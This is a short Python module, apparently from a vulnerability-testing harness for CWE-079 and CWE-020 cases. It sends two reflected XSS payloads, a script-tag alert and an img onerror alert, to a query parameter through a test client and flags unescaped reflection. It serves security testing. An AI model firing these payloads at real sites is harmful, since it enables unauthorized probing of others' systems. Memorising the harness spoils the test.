"""Shared exploit logic for reflected XSS (cwe-079/0-py, cwe-020/3-py)."""

from urllib.parse import quote

import dgcheck

PAYLOADS = (
    ("<script>alert(\"xss\")</script>", "<script>"),
    ("\"><img src=x onerror=alert(1)>", "<img src=x"),
)


def exploit(ctx, route, param):
    def attack(client):
        findings, notes = [], []
        for payload, needle in PAYLOADS:
            resp, err = dgcheck.attempt(lambda: client.get(f"{route}?{param}={quote(payload, safe='')}"))
            if err:
                notes.append(err)
                continue
            body = resp.get_data(as_text=True)
            if resp.mimetype == "text/html" and needle in body:
                findings.append(dgcheck.finding(
                    "reflected-xss", f"`{param}`={payload!r} is reflected unescaped in a text/html response"))
                break
        return dgcheck.exploit_result(findings, "; ".join(notes[:3]))

    return dgcheck.run_client_exploit(ctx, attack)
